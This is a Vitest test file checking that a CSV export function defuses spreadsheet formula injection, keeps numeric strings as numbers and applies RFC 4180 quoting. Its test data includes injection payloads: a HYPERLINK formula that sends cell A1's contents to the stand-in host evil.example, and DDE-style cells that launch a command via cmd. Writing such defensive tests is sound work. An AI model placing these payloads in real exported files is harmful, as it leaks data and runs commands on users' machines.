import { describe, expect, it } from 'vitest';
import { toCsv } from '../../web/src/lib/csv';

const cells = (csv: string) => csv.split('\r\n')[1];

describe('toCsv neutralises formulas (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `"'@SUM(1+1)*cmd|"" /C calc""!A0"`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('a string cell %j is prefixed with a quote', (value, expected) => {
    expect(cells(toCsv(['agent'], [[value]]))).toBe(expected);
  });

  it('numbers stay numbers, a negative one included', () => {
    expect(cells(toCsv(['a', 'b', 'c', 'd'], [[-3.5, 0, 42, -1e-7]]))).toBe('-3.5,0,42,-1e-7');
  });

  it('a string that is exactly a number (ClickHouse sends 64-bit integers as strings) is a number, not a formula', () => {
    expect(cells(toCsv(['n', 'x'], [['-3', '+12.5']]))).toBe('-3,+12.5');
  });

  it('ordinary text, an empty cell and a null are left as they were, quoted by RFC 4180 only where needed', () => {
    expect(cells(toCsv(['a', 'b', 'c', 'd', 'e'], [['LiWei', 'a, b', '', null, 'say "hi"']]))).toBe('LiWei,"a, b",,,"say ""hi"""');
  });
});
